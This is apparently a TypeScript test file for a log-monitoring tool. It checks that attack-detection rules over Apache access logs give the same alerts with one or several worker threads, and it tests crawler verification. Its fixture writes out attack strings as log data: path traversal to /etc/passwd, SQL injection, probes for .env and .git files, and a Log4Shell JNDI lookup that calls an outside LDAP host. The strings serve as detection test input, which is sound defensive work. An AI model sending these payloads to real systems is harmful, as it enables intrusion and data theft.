// detect with service.threads: tail -> apache_access -> detect with the parser and the rules' conditions in 1 and 2
// worker threads (detect's partials: match there, pour here; plugins/aggregates/detect/split.ts) gives the alerts and
// digests of threads: 1, in the same order, the same counters and the same checkpoints — over benign lines with
// attacks of every kind of the pack woven in across many batches, allow-lists, a `distinct` value that is no string;
// and with verify_crawlers against a real DNS server (dnsmasq), whose claims the main thread checks.
import assert from 'node:assert/strict';
import { readFile, stat, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { runPipeline } from '../core/testing/index.js';
import { combinedLines } from './bench/apache-lines.js';
import { dnsmasqMissing, startDnsmasq, type Dnsmasq } from './support/dnsmasq.js';
import { ROOT, sameAcrossThreads, skipWhenMissing, tempDir } from './support/helpers.js';

const LINES = 20_000;
const FILTERS = path.join(ROOT, 'test/fixtures/parallel-filters.js');
const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';
const GOOGLEBOT = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';

/** The attacks woven in, each as (client, request target, status, user agent, times in a row): one every 150 lines,
 * in turn. */
const ATTACKS: [string, string, number, string, number?][] = [
  ['198.51.100.3', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd', 400, CHROME],
  ['198.51.100.7', '/news?id=-1+UNION+ALL+SELECT+1,2,concat(user(),0x3a,version())--', 200, CHROME],
  ['198.51.100.11', '/', 200, '${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1cmw=}'],
  ['198.51.100.16', '/.env', 404, 'sqlmap/1.7.2#stable (https://sqlmap.org)'],
  ['198.51.100.20', '/.git/config', 404, CHROME, 3],
  ['10.0.0.5', '/.env', 404, 'sqlmap/1.7'], // allowed by allow_networks: counted by no rule
  ['2001:db8::5', '/wp-login.php', 403, 'curl/8.4.0'],
  ['198.51.100.33', '/cgi-bin/.%2e/.%2e/übersicht', 400, 'Mozilla/5.0 (X11; Linux) Firefox/121.0 — ünïcödé'], // not ASCII
];

/** The benign lines (the crawler agents among them made a browser's: crawls of their own are added below), an
 * attack every 150 lines at the time of the line before it, a probing burst (40 distinct 404s from one client)
 * every 2,000, and lines no parser takes. */
function corpus(extra: (time: string, i: number) => string[] = () => []): string[] {
  const out: string[] = [];
  const base = combinedLines(LINES, 19);
  base.forEach((line, i) => {
    const benign = line.replace(/"[^"]*(Googlebot|bingbot)[^"]*"$/, `"${CHROME}"`);
    out.push(i % 997 === 500 ? 'not an access log line' : benign);
    const time = /\[([^\]]+)\]/.exec(line)![1];
    const at = (ip: string, target: string, status: number, ua: string, method = 'GET') => `${ip} - - [${time}] "${method} ${target} HTTP/1.1" ${status} 196 "-" "${ua}"`;
    if (i % 150 === 149) {
      const [ip, target, status, ua, times = 1] = ATTACKS[Math.floor(i / 150) % ATTACKS.length]!;
      for (let k = 0; k < times; k++) out.push(at(ip, target, status, ua, target === '/wp-login.php' ? 'POST' : 'GET'));
    }
    if (i % 2000 === 1000) for (let k = 0; k < 40; k++) out.push(at(`192.0.2.${i / 1000}`, `/probe/${i}/${k}`, 404, 'curl/8.4.0'));
    out.push(...extra(time, i));
  });
  return [...out, ...ending()];
}

/** An attacker's quiet period ended by events that match nothing: the digest is released at such an event (by the
 * watermark it reached, not by the next match), once with a match older than it right after (lines of two logs out
 * of order: its quiet period ended already, so its digest is made again, amended, at the next newer event), and at
 * the very end of the file (digested as ended, not at flush). */
function ending(): string[] {
  const at = (ms: number, ip: string, target: string) => {
    const d = new Date(ms);
    const time = `${String(d.getUTCDate()).padStart(2, '0')}/Nov/2026:${d.toISOString().slice(11, 19)} +0000`;
    return `${ip} - - [${time}] "GET ${target} HTTP/1.1" 200 512 "-" "${CHROME}"`;
  };
  const traversal = '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd';
  const quietEnded = (from: number) => [
    at(from, '198.51.100.99', traversal), // fires: quiet for 10m
    at(from + 60_000, '198.51.100.99', traversal), // a match of the quiet period
    at(from + 11 * 60_000, '203.0.113.50', '/static/css/site.min.css'), // matches nothing; the period has ended
  ];
  const f = Date.UTC(2026, 10, 25, 3, 0, 0);
  return [...quietEnded(f), at(f + 2 * 60_000, '198.51.100.99', traversal), ...quietEnded(f + 3_600_000)];
}

interface Outcome { alerts: string[]; custom: Record<string, number>; stats: unknown; checkpoint: number; logs: string[] }

let runs = 0;
async function run(dir: string, log: string, threads: number, detect: string, before: string[] = []): Promise<Outcome> {
  const n = ++runs;
  const data = path.join(dir, `data-${n}`);
  const alerts = path.join(dir, `alerts-${n}.jsonl`);
  const yaml = [
    `service: { data_dir: ${JSON.stringify(data)}, threads: ${threads}, plugins: [${JSON.stringify(FILTERS)}] }`,
    'inputs:',
    `  logs: { type: tail, path: [${JSON.stringify(log)}], read_from: beginning, exit_on_eof: true }`,
    'filters:',
    ...before,
    `  access: { type: apache_access, inputs: [${before.length ? 'die' : 'logs'}], format: combined, timezone: UTC }`,
    'aggregates:',
    `  det: { type: detect, inputs: [access], ${detect} }`,
    'outputs:',
    `  alerts: { type: file, inputs: [det], path: ${JSON.stringify(alerts)}, format: json }`,
    '  rest: { type: blackhole, inputs: [access._unparsed] }',
  ].join('\n');
  const pipeline = await runPipeline({ yaml, file: path.join(dir, `r${n}.yaml`) });
  await pipeline.done();
  const stats = Object.fromEntries(['logs', 'access', 'det', 'alerts', ...(before.length ? ['die'] : [])].map((id) => {
    const s = pipeline.stats(id);
    return [id, { received: s.received_events, sent: s.sent_events_by_output, discarded: s.discarded_by_reason, errors: s.errors_by_type, custom: sameAcrossThreads(s.custom) }];
  }));
  const cps = JSON.parse(await readFile(path.join(data, 'logs', 'checkpoints.json'), 'utf8')) as { files: Record<string, { offset: number }> };
  // `time` is when the alert was emitted (the clock): everything else is the same whatever the threads.
  const lines = (await readFile(alerts, 'utf8')).split('\n').filter(Boolean).map((l) => {
    const { time: _time, ...rest } = JSON.parse(l) as Record<string, unknown>;
    return JSON.stringify(rest);
  });
  return { alerts: lines, custom: pipeline.stats('det').custom, stats, checkpoint: Object.values(cps.files)[0]!.offset, logs: pipeline.logs };
}

/** Runs with threads 1, 2 and 3 and asserts that the last two give what the first gave; returns the first. */
async function sameWithThreads(dir: string, log: string, detect: string): Promise<Outcome> {
  const [one, ...more] = [await run(dir, log, 1, detect), await run(dir, log, 2, detect), await run(dir, log, 3, detect)];
  assert.ok(!one.logs.some((l) => l.includes('partials_to=det')), 'threads: 1 splits nothing');
  for (const [i, r] of more.entries()) {
    assert.ok(r.logs.some((l) => l.includes('batches go to worker threads') && l.includes('partials_to=det')), r.logs.join(''));
    assert.ok(!r.logs.some((l) => l.includes('ERROR')), r.logs.join(''));
    assert.equal(r.alerts.length, one.alerts.length, `alerts with threads ${i + 2}`);
    for (let k = 0; k < one.alerts.length; k++) assert.equal(r.alerts[k], one.alerts[k], `alert ${k} with threads ${i + 2}`);
    assert.deepEqual(r.stats, one.stats, `counters with threads ${i + 2}`);
    assert.equal(r.checkpoint, one.checkpoint, `checkpoint with threads ${i + 2}`);
  }
  assert.equal(one.checkpoint, (await stat(log)).size, 'everything acknowledged');
  return one;
}

describe('detect with service.threads', function () {
  this.timeout(120_000);
  let dir: Awaited<ReturnType<typeof tempDir>>;
  before(async () => {
    dir = await tempDir('visor-detect-threads-');
  });
  after(() => dir.remove());

  it('gives the same alerts, digests, counters and checkpoints with its conditions in 1 and 2 worker threads', async () => {
    const log = path.join(dir.dir, 'access.log');
    await writeFile(log, corpus().join('\n') + '\n');
    // A rule of one's own whose distinct value is a number (status), beside the pack's distinct paths.
    const one = await sameWithThreads(dir.dir, log, `allow_networks: [10.0.0.0/8], default_pack: true, rules: [{ name: status-spread, when: 'status >= 400 and path =~ "^/probe/"', distinct: status, capacity: 0 }]`);
    const alerts = one.alerts.map((l) => JSON.parse(l) as { rule: string; state: string; evidence: string[]; client_ip: string; count: number; quiet_ended?: boolean; amended?: boolean; since: number });
    const fired = (rule: string, state = 'firing') => alerts.filter((a) => a.rule === rule && a.state === state).length;
    for (const rule of ['path-traversal', 'sql-injection', 'exploit-strings', 'scanner-user-agent', 'sensitive-files', 'probing', 'status-spread']) {
      assert.ok(fired(rule) > 0, `${rule} fired: ${[...new Set(alerts.map((a) => a.rule))].join(', ')}`);
    }
    assert.ok(fired('path-traversal', 'digest') > 0, 'quiet periods were digested');
    const attacker = alerts.filter((a) => a.client_ip === '198.51.100.99');
    const ended = attacker.map((a) => `${a.state} ${a.count} ${a.quiet_ended ?? ''} ${a.amended ?? ''}`);
    assert.deepEqual(ended, ['firing 1  ', 'digest 1 true false', 'digest 2 true true', 'firing 1  ', 'digest 1 true false'], 'the periods ended by events that match nothing; the late line amends its period\'s digest');
    assert.equal(attacker[2]!.since, attacker[1]!.since, 'the amended digest has the identity of the first (the store overwrites its row)');
    assert.ok(alerts.every((a) => a.evidence.length > 0 && a.evidence.every((e) => e.includes('HTTP/1.1'))), 'every alert has its raw lines');
    assert.ok(alerts.some((a) => a.client_ip === '198.51.100.33' && a.evidence.some((e) => e.includes('/übersicht') && e.endsWith('ünïcödé"'))), 'a line that is not ASCII is evidence as it was');
    assert.ok(!one.alerts.some((a) => a.includes('10.0.0.5')), 'the allowed network is never alerted on');
    assert.ok(one.custom.visor_detect_allowed_events_total > 0, 'the allowed events were counted');
    assert.equal(one.custom.visor_detect_alerts_total + one.custom.visor_detect_digests_total, alerts.length);
  });

  it('goes on with a new worker thread (and its own string dictionary) after one that built its records died', async () => {
    const log = path.join(dir.dir, 'dying.log');
    const lines = corpus();
    await writeFile(log, lines.join('\n') + '\n');
    // The first filter ends its worker thread on line 3,000: that thread held detect's builder and its dictionary.
    const r = await run(dir.dir, log, 2, 'default_pack: true', [`  die: { type: exit_thread_on, inputs: [logs], message: ${JSON.stringify(lines[3_000])} }`]);
    assert.ok(r.logs.some((l) => l.includes('worker thread died')), 'the death is logged');
    assert.ok(!r.logs.some((l) => l.includes('out of step')), r.logs.join(''));
    const die = (r.stats as Record<string, { discarded: Record<string, number> }>).die;
    assert.ok(die.discarded.process_error > 0, 'the batch the thread died on failed');
    const alerts = r.alerts.map((l) => JSON.parse(l) as { client_ip: string; last: number; evidence: string[] });
    const end = alerts.filter((a) => a.client_ip === '198.51.100.99');
    assert.equal(end.length, 5, 'the alerts of the end of the file, long after the death, with their clients');
    assert.ok(end.every((a) => a.evidence.every((e) => e.startsWith('198.51.100.99 '))), 'and their own lines');
    assert.ok(r.checkpoint < (await stat(log)).size, 'the failed batch is not acknowledged as delivered');
    assert.equal(r.custom.visor_detect_partial_dictionaries, 1, 'the dead thread\'s dictionary is freed: only the live thread\'s is kept');
  });

  describe('with verify_crawlers', () => {
    let dns: Dnsmasq | undefined;
    before(async function () {
      skipWhenMissing(this, dnsmasqMissing);
      dns = await startDnsmasq({ host: [['crawl-66-249-66-1.googlebot.com', '66.249.66.1']] });
    });
    after(async () => dns?.stop());

    it('checks the crawler claims on the main thread and gives the same alerts and counters', async () => {
      const log = path.join(dir.dir, 'crawlers.log');
      // Every 40 lines a Googlebot request from a verified address and one from an address with no PTR record; and
      // a fake crawler's `crawler_verified: true` in no field can allow it (the parser makes no such field anyway).
      const crawls = (time: string, i: number) => i % 40 !== 0 ? [] : ['66.249.66.1', '203.0.113.20'].map((ip) => `${ip} - - [${time}] "GET /page/${i} HTTP/1.1" 200 512 "-" "${GOOGLEBOT}"`);
      await writeFile(log, corpus(crawls).join('\n') + '\n');
      const one = await sameWithThreads(dir.dir, log, `verify_crawlers: true, dns_servers: [${JSON.stringify(dns!.server)}]`);
      const alerts = one.alerts.map((l) => JSON.parse(l) as { rule: string; client_ip: string });
      assert.ok(alerts.some((a) => a.rule === 'fake-crawler' && a.client_ip === '203.0.113.20'), 'the fake crawler fired');
      assert.ok(!alerts.some((a) => a.client_ip === '66.249.66.1'), 'the verified crawler is allowed');
      assert.equal(one.custom.visor_detect_crawler_verified_total, LINES / 40);
      assert.equal(one.custom.visor_detect_crawler_fake_total, LINES / 40);
      assert.ok(alerts.some((a) => a.rule === 'path-traversal'), 'the other rules ran');
    });
  });
});
